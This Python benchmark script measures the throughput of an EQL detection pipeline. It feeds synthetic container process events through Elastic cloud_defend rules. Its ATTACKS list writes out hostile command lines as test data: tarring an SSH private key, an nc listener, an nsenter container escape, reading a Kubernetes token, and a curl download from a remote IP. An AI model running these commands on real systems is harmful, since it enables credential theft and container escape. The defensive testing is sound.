"""Throughput of the product path: NDJSON bytes -> orjson -> normalise -> every cloud_defend
EQL rule (through the prefilter index) -> alert drafts, beside the cost of decoding alone.

    .venv/bin/python benchmarks/bench_pipeline.py --events 200000
    .venv/bin/python benchmarks/bench_pipeline.py --fresh-args 0.25   # never-seen arguments

The rules are Elastic's own (`../shared/elastic-rules/cloud_defend/*.toml`, imported with
`quarantine.elastic_import`). The events are synthetic Defend for Containers process starts:
mostly ordinary container activity (servers, health checks, shells, package tools), with a
small share of attacks the rules are written for, in cloud_defend's own layout (dotted keys
inside objects, as its sample events have them) or fully nested (`--layout nested`). The
commands repeat, so the index's memory of values almost always answers; `--fresh-args` gives
a share of the events one argument no event had before, as real streams have.
"""

from __future__ import annotations

import argparse
import random
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson

from quarantine.detect import Detector, RuleSet
from quarantine.elastic_import import ElasticImportError, load_elastic_rule
from quarantine.events import bound_normaliser
from quarantine.heap import settle_startup_heap

SHARED = Path(__file__).resolve().parents[1] / ".." / "shared"
RULES_DIR = SHARED / "elastic-rules" / "cloud_defend"

# (executable, argv after argv[0], parent name): everyday processes inside containers.
BENIGN = [
    ("/usr/sbin/nginx", ["-g", "daemon off;"], "containerd-shim"),
    ("/usr/local/bin/python3", ["app.py", "--port", "8080"], "sh"),
    ("/usr/bin/java", ["-Xmx512m", "-jar", "/app/service.jar"], "tini"),
    ("/bin/sh", ["-c", "sleep 5"], "containerd-shim"),
    ("/bin/ls", ["-la", "/app"], "bash"),
    ("/usr/bin/curl", ["-s", "http://localhost:8080/health"], "sh"),
    ("/usr/local/bin/node", ["server.js"], "npm"),
    ("/bin/ps", ["aux"], "bash"),
    ("/bin/date", ["+%s"], "sh"),
    ("/bin/sleep", ["30"], "sh"),
    ("/usr/local/bin/python3", ["worker.py"], "supervisord"),
    ("/bin/cat", ["/app/config.yaml"], "sh"),
    ("/bin/grep", ["-c", "ERROR", "/var/log/app.log"], "sh"),
    ("/usr/bin/find", ["/tmp", "-mtime", "+1", "-delete"], "cron"),
    ("/usr/local/bin/gunicorn", ["-w", "4", "app:app"], "sh"),
    ("/usr/bin/apt-get", ["install", "-y", "ca-certificates"], "sh"),
    ("/bin/bash", ["/docker-entrypoint.sh"], "containerd-shim"),
    ("/usr/bin/tar", ["xzf", "/tmp/release.tgz", "-C", "/app"], "sh"),
    ("/usr/bin/redis-server", ["*:6379"], "containerd-shim"),
    ("/usr/bin/postgres", ["-D", "/var/lib/postgresql/data"], "containerd-shim"),
]
# Attacks the cloud_defend rules are written to catch.
ATTACKS = [
    ("/usr/bin/tar", ["czf", "/tmp/k.tgz", "/root/.ssh/id_rsa"], "bash"),
    ("/usr/bin/nc", ["-lvnp", "4444"], "bash"),
    ("/usr/bin/nsenter", ["-t", "1", "-m", "-u", "-n", "-i", "sh"], "bash"),
    ("/bin/cat", ["/var/run/secrets/kubernetes.io/serviceaccount/token"], "bash"),
    ("/usr/bin/curl", ["-o", "/tmp/x", "http://203.0.113.7/x"], "bash"),
]


def make_event(
    rng: random.Random,
    sequence: int,
    moment: float,
    attack: bool,
    layout: str,
    fresh_argument: bool = False,
) -> dict[str, Any]:
    executable, argv, parent = rng.choice(ATTACKS if attack else BENIGN)
    if fresh_argument:  # a value no event had before (a job's log file), as real streams have
        argv = [*argv, f"/tmp/job-{sequence:x}.log"]
    name = executable.rsplit("/", 1)[-1]
    pod = f"web-{rng.randrange(40):02d}"
    container_id = f"{rng.randrange(40):064x}"
    millis = int(moment * 1000) % 1000
    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(moment)) + f".{millis:03d}Z"
    process = {
        "name": name,
        "executable": executable,
        "args": [executable, *argv],
        "args_count": len(argv) + 1,
        "pid": 1000 + sequence % 30000,
        "entity_id": f"e{sequence:x}",
        "interactive": attack,
        "working_directory": "/app",
        "parent": {"name": parent, "pid": 900, "entity_id": f"p{sequence:x}"},
        "entry_leader": {"entity_id": "l1", "entry_meta": {"type": "container"}},
    }
    event: dict[str, Any] = {
        "@timestamp": stamp,
        "event": {
            "id": f"{sequence:016x}",
            "kind": "event",
            "category": ["process"],
            "type": ["start"],
            "action": "exec",
            "module": "cloud_defend",
            "dataset": "cloud_defend.process",
            "ingested": stamp,
        },
        "process": process,
        "user": {"id": "0" if attack else "1000"},
        "host": {"name": "node-1", "os": {"type": "linux"}},
        "cloud": {"provider": "gcp", "region": "europe-west1"},
    }
    if layout == "dotted":
        event["container"] = {"id": container_id, "image.name": "registry/app", "image.tag": ["1"]}
        event["orchestrator"] = {
            "resource.name": pod,
            "resource.type": "pod",
            "namespace": "shop",
            "cluster.name": "prod",
        }
    else:
        event["container"] = {"id": container_id, "image": {"name": "registry/app", "tag": ["1"]}}
        event["orchestrator"] = {
            "resource": {"name": pod, "type": "pod"},
            "namespace": "shop",
            "cluster": {"name": "prod"},
        }
    return event


def make_stream(
    count: int,
    attack_share: float,
    layout: str,
    seed: int,
    rate: float = 100_000,
    fresh_share: float = 0.0,
) -> bytes:
    """`count` events stamped (in milliseconds, as ECS does) from now on at `rate` per second:
    the time sequences' maxspan and the look-back are measured in. A `fresh_share` of them
    carry one argument no earlier event had."""
    rng = random.Random(seed)
    fresh = random.Random(seed + 1)  # its own draws, so the stream is otherwise the same
    start = time.time()
    lines = [
        orjson.dumps(
            make_event(
                rng,
                index,
                start + index / rate,
                rng.random() < attack_share,
                layout,
                fresh_share > 0 and fresh.random() < fresh_share,
            )
        )
        for index in range(count)
    ]
    return b"\n".join(lines) + b"\n"


def load_ruleset() -> RuleSet:
    rules = []
    for path in sorted(RULES_DIR.glob("*.toml")):
        try:
            rules.append(load_elastic_rule(path))
        except ElasticImportError:
            continue  # the one non-EQL (kuery) rule
    ruleset = RuleSet.from_rules(rules)
    for name, error in sorted(ruleset.errors.items()):
        print(f"rule {name} did not compile: {error}", file=sys.stderr)
    return ruleset


def best_times(actions: list[Callable[[], object]], repeat: int) -> list[float]:
    """The least CPU time of each action over `repeat` rounds (CPU time, as the machine is
    shared). A round runs every action once, so a change in the machine's speed during the
    measurement touches all of them alike instead of the ones measured last."""
    times: list[list[float]] = [[] for _ in actions]
    for _ in range(repeat):
        for action, taken in zip(actions, times, strict=True):
            start = time.process_time()
            action()
            taken.append(time.process_time() - start)
    return [min(taken) for taken in times]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--events", type=int, default=200_000, help="events in the stream")
    parser.add_argument("--repeat", type=int, default=5, help="runs per measurement (best kept)")
    parser.add_argument("--attack-share", type=float, default=0.001, help="share of attacks")
    parser.add_argument("--layout", choices=("dotted", "nested"), default="dotted")
    parser.add_argument("--format", choices=("ecs", "auto"), default="ecs")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument(
        "--rate", type=float, default=100_000, help="events per second of event time"
    )
    parser.add_argument(
        "--fresh-args",
        type=float,
        default=0.0,
        help="share of events with one argument never seen before (the index works it out)",
    )
    args = parser.parse_args()
    if not RULES_DIR.is_dir():
        print(f"rules not found at {RULES_DIR}", file=sys.stderr)
        return 1

    ruleset = load_ruleset()
    data = make_stream(
        args.events, args.attack_share, args.layout, args.seed, args.rate, args.fresh_args
    )
    settle_startup_heap()  # as the matcher does once started
    loads = orjson.loads

    def decode_only() -> int:
        count = 0
        for line in data.splitlines():
            loads(line)
            count += 1
        return count

    drafts_seen = [0]

    def full_path() -> int:
        # A fresh detector per run, so caps and suppression start alike every time.
        detector = Detector(ruleset)
        process = detector.process
        # As the matcher's detection lane normalises (it resolves this once per batch; the
        # stream's layouts are known by now, as they are in a running matcher).
        normalise = bound_normaliser(args.format, detector.field_reads)
        drafts = 0
        for line in data.splitlines():
            document = loads(line)
            event = normalise(document, line)
            if event is not None:  # as the matcher's detection lane hands events over
                drafts += len(process(event, line if event is document else None))
        drafts_seen[0] = drafts
        return drafts

    reads = Detector(ruleset).field_reads

    def up_to_normalise() -> None:
        normalise = bound_normaliser(args.format, reads)
        for line in data.splitlines():
            normalise(loads(line), line)

    def up_to_index() -> None:
        # The lookup the detector asks, made for the rules' own bits (a detector also admits
        # the later stages of sequences while they wait).
        candidate_mask = ruleset.index.lookup_for(ruleset.index.rule_bits)
        normalise = bound_normaliser(args.format, reads)
        for line in data.splitlines():
            event = normalise(loads(line), line)
            if event is not None:
                candidate_mask(event)

    decode_seconds, normalise_seconds, index_seconds, full_seconds = best_times(
        [decode_only, up_to_normalise, up_to_index, full_path], args.repeat
    )
    count = args.events
    print(f"rules: {len(ruleset)} compiled, {len(ruleset.errors)} refused")
    print(
        f"events: {count} ({len(data) / count:.0f} bytes each, layout {args.layout}, "
        f"{args.fresh_args:.0%} with a never-seen argument)"
    )
    print(f"decode only:  {count / decode_seconds:>10,.0f} events/s")
    print(f"full path:    {count / full_seconds:>10,.0f} events/s  ({drafts_seen[0]} alert drafts)")
    print(f"ratio full/decode: {full_seconds / decode_seconds:.2f}x the cost of decoding")
    print("cost per event, by step (CPU microseconds):")
    steps = [
        ("decode", decode_seconds),
        ("normalise", normalise_seconds - decode_seconds),
        ("index lookup", index_seconds - normalise_seconds),
        ("rules + drafts", full_seconds - index_seconds),
    ]
    for step, seconds in steps:
        print(f"  {step:<15} {seconds / count * 1e6:6.2f}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
